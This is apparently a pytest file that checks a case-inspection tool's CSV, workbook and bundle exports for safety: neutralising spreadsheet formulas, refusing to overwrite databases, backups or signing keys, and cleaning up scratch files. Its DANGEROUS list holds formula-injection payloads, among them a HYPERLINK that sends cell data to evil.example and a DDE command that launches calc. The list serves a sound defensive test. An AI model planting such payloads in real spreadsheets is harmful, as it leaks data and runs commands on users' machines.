"""Exports that cannot hurt: no formulas for Excel to run, never over the database, no scratch
left behind, and no evidence note cut without saying so."""

from __future__ import annotations

import csv
import os
import stat
import subprocess
import sys
import tempfile

import openpyxl
import pytest

from conftest import db_content, run_hmip

from hmip_tui.exchange.files import SCRATCH_SUFFIX

EXPORTS = {"csv": ["export", "csv"], "workbook": ["export", "workbook"], "bundle": ["bundle", "export"]}

DANGEROUS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(A1:A9)",
             "=cmd|' /C calc'!A0", "+1+1", "-2+3", "\tindented", "\rreturned"]


def _csv_rows(path):
    # Reading a sample in this process (the property tests do) lowers the csv module's global
    # field limit; an analyst's reader has no such limit on a note.
    csv.field_size_limit(sys.maxsize)
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_answers_csv_neutralises_every_cell_a_spreadsheet_would_run(report_db, tmp_path):
    import sqlite3

    questions = ["2.2.1.a", "2.2.1.b", "2.2.1.c", "2.2.1.d", "2.3.1.a", "2.3.1.b", "2.3.1.c"]
    for question, note in zip(questions, DANGEROUS):
        run_hmip("answer", "HF0001", question, "yes", "--note", note, "--reason", "test",
                 db=report_db, check=True)
    conn = sqlite3.connect(report_db)  # `answer` trims a note; a bundle's notes arrive as written
    with conn:
        for question, note in zip(questions, DANGEROUS):
            conn.execute("UPDATE answer SET note = ? WHERE question = ? AND case_id = "
                         "(SELECT id FROM case_file WHERE ref = 'HF0001')", (note, question))
    conn.close()
    run_hmip("answer", "HF0001", "2.4.1.a", "yes", "--note", "Seen at home; - nothing else",
             "--reason", "test", db=report_db, check=True)
    out = tmp_path / "answers.csv"
    run_hmip("export", "csv", "--out", str(out), db=report_db, check=True)
    notes = {r["question"]: r["note"] for r in _csv_rows(out) if r["case_ref"] == "HF0001"}
    for question, note in zip(questions, DANGEROUS):
        assert notes[question] == "'" + note, question
    assert notes["2.4.1.a"] == "Seen at home; - nothing else"  # only the first character counts
    for row in _csv_rows(out):
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


@pytest.mark.parametrize("export", sorted(EXPORTS))
@pytest.mark.parametrize("target", ["database", "wal", "shm", "backup", "new-in-backups", "hard-link",
                                    "symlink"])
def test_an_export_never_writes_over_the_database_its_journal_or_its_backups(
        report_db, tmp_path, export, target):
    run_hmip("backup", db=report_db, check=True)
    backup = next((report_db.parent / "backups").glob("*.sqlite"))
    link = tmp_path / "link.sqlite"
    if target == "hard-link":
        os.link(report_db, link)
    elif target == "symlink":
        link.symlink_to(report_db)
    out = {"database": report_db, "wal": tmp_path / f"{report_db.name}-wal",
           "shm": tmp_path / f"{report_db.name}-shm", "backup": backup,
           "new-in-backups": backup.parent / "new.out", "hard-link": link, "symlink": link}[target]
    before = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
    result = run_hmip(*EXPORTS[export], "--out", str(out), db=report_db)
    assert result.returncode == 1, result.stdout
    assert len(result.stderr.strip().splitlines()) == 1
    assert "an export never" in result.stderr, result.stderr
    assert {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()} == before


@pytest.mark.parametrize("export", sorted(EXPORTS))
@pytest.mark.parametrize(("out", "message"), [("", "--out is empty"),
                                              ("/dev/null", "is not a regular file"),
                                              (".", "is a folder")])
def test_an_empty_or_impossible_out_is_one_sentence(report_db, export, out, message):
    before = db_content(report_db)
    result = run_hmip(*EXPORTS[export], "--out", out, db=report_db)
    assert result.returncode == 1 and message in result.stderr, result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert db_content(report_db) == before
    assert os.path.exists("/dev/null") and stat.S_ISCHR(os.stat("/dev/null").st_mode)


def test_the_workbooks_temporary_files_live_in_a_private_folder_beside_it(report_db, tmp_path,
                                                                         monkeypatch):
    from hmip_tui.exchange import workbook
    from hmip_tui.services import open_database

    seen = []  # every temporary file XlsxWriter makes, with its folder's permissions then
    real = tempfile.mkstemp

    def spy(*args, **kwargs):
        fd, name = real(*args, **kwargs)
        folder = os.path.dirname(name)
        seen.append((folder, stat.S_IMODE(os.stat(folder).st_mode)))
        return fd, name

    monkeypatch.setattr(tempfile, "mkstemp", spy)
    out = tmp_path / "exports" / "annex.xlsx"
    workbook.write_workbook(open_database(report_db), out)
    assert seen, "XlsxWriter made no temporary files: constant-memory mode is off?"
    for folder, mode in seen:
        assert os.path.dirname(folder) == str(out.parent), folder  # beside the output
        assert os.path.basename(folder).endswith(SCRATCH_SUFFIX) and mode == 0o700
    assert sorted(p.name for p in out.parent.iterdir()) == ["annex.xlsx"]


def test_a_failed_export_leaves_neither_its_file_nor_its_scratch_folder(report_db, tmp_path, monkeypatch):
    from hmip_tui.exchange import workbook
    from hmip_tui.services import open_database

    def broken(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(workbook, "_answers", broken)
    with pytest.raises(Exception, match="the disk is full"):
        workbook.write_workbook(open_database(report_db), tmp_path / "exports" / "annex.xlsx")
    assert list((tmp_path / "exports").iterdir()) == []


def test_leftovers_of_a_killed_export_go_on_the_next_run_and_a_live_ones_stay(report_db, tmp_path):
    from hmip_tui.exchange.files import atomic_output

    tmp_path = tmp_path / "exports"
    tmp_path.mkdir()

    dead = tmp_path / f".annex.xlsx.k1ll3d{SCRATCH_SUFFIX}"
    dead.mkdir(mode=0o700)
    (dead / "annex.xlsx").write_bytes(b"half a workbook")
    (dead / "tmpabc123").write_bytes(b"XlsxWriter's rows, with notes")
    old_style = tmp_path / ".annex.xlsx.ab12cd34.part"  # what earlier versions left
    old_style.write_bytes(b"")
    # A live export in another process: it holds its scratch folder's lock.
    live = tmp_path / f".other.csv.l1v3{SCRATCH_SUFFIX}"
    live.mkdir(mode=0o700)
    holder = subprocess.Popen([sys.executable, "-c", (
        "import fcntl, os, sys, time\n"
        f"fd = os.open({str(live)!r}, os.O_RDONLY); fcntl.flock(fd, fcntl.LOCK_EX)\n"
        "print('held', flush=True); time.sleep(60)\n")], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        run_hmip("export", "workbook", "--out", str(tmp_path / "annex.xlsx"), db=report_db, check=True)
        assert not dead.exists() and not old_style.exists()
        assert live.exists(), "the scratch folder of a live export was removed"
    finally:
        holder.kill()
        holder.wait()
    with atomic_output(tmp_path / "again.csv") as part:
        part.write_text("x")
    assert not live.exists(), "a dead export's scratch folder outlived the next run"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["again.csv", "annex.xlsx"]


def test_a_note_too_long_for_a_cell_is_marked_cut_in_the_workbook_and_whole_in_the_csv(report_db, tmp_path):
    from hmip_tui.exchange.workbook import CELL_LIMIT

    note = "The case record runs to many pages. " * 1200 + "THE END"  # 43,207 characters
    run_hmip("answer", "HF0001", "2.2.1.a", "yes", "--note", note, "--reason", "test",
             db=report_db, check=True)
    out = tmp_path / "annex.xlsx"
    run_hmip("export", "workbook", "--out", str(out), db=report_db, check=True)
    sheet = openpyxl.load_workbook(out, read_only=True)["Answers"]
    cell = next(r[5] for r in sheet.iter_rows(values_only=True) if r[:2] == ("HF0001", "2.2.1.a"))
    assert len(cell) <= CELL_LIMIT
    assert cell.startswith(note[:1000]) and "THE END" not in cell
    assert "[cut here: the text has 43,207 characters" in cell and "answers CSV" in cell
    run_hmip("export", "csv", "--out", str(tmp_path / "answers.csv"), db=report_db, check=True)
    rows = _csv_rows(tmp_path / "answers.csv")
    assert next(r["note"] for r in rows if (r["case_ref"], r["question"]) == ("HF0001", "2.2.1.a")) == note


def test_a_cut_never_splits_a_character_excel_counts_twice():
    from hmip_tui.exchange.workbook import CELL_LIMIT, fit_cell

    text = "\U0001F600" * 20_000  # 40,000 UTF-16 code units, as Excel counts them
    cut = fit_cell(text, "the CSV")
    assert len(cut.encode("utf-16-le")) // 2 <= CELL_LIMIT and "\ufffd" not in cut
    assert cut.endswith("the whole of it is in the CSV]")
    assert fit_cell("short", "the CSV") == "short"


@pytest.mark.parametrize("export", sorted(EXPORTS))
def test_an_export_never_writes_through_a_link_or_over_a_signing_key(report_db, tmp_path, export):
    target = tmp_path / "elsewhere.txt"
    target.write_text("someone else's file")
    link = tmp_path / "link.out"
    link.symlink_to(target)
    result = run_hmip(*EXPORTS[export], "--out", str(link), db=report_db)
    assert result.returncode == 1 and "is a symbolic link" in result.stderr
    assert link.is_symlink() and target.read_text() == "someone else's file"
    from hmip_tui.identity import keys_dir

    run_hmip("answer", "HF0001", "2.2.1.a", "no", "--reason", "makes the key", db=report_db, check=True)
    key = keys_dir() / "LF.ed25519"
    before = key.read_bytes()
    result = run_hmip(*EXPORTS[export], "--out", str(key), db=report_db)
    assert result.returncode == 1 and "signing keys" in result.stderr and key.read_bytes() == before


def test_a_terminated_export_cleans_up_after_itself(report_db, tmp_path):
    """SIGTERM and SIGHUP (a closed terminal) clean up as Ctrl+C does: no scratch left behind."""
    import signal
    import time

    from conftest import HMIP

    for sig in (signal.SIGTERM, signal.SIGHUP):
        folder = tmp_path / f"out-{sig}"
        folder.mkdir()
        env = {**os.environ, "HMIP_INSPECTOR": "LF"}
        proc = subprocess.Popen([HMIP, "--db", str(report_db), "export", "workbook", "--out",
                                 str(folder / "w.xlsx")], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        deadline = time.monotonic() + 20
        while not any(p.name.endswith(SCRATCH_SUFFIX) for p in folder.iterdir()) and time.monotonic() < deadline:
            time.sleep(0.01)
        proc.send_signal(sig)
        proc.wait(timeout=30)
        assert list(folder.iterdir()) == [] or [p.name for p in folder.iterdir()] == ["w.xlsx"], list(folder.iterdir())
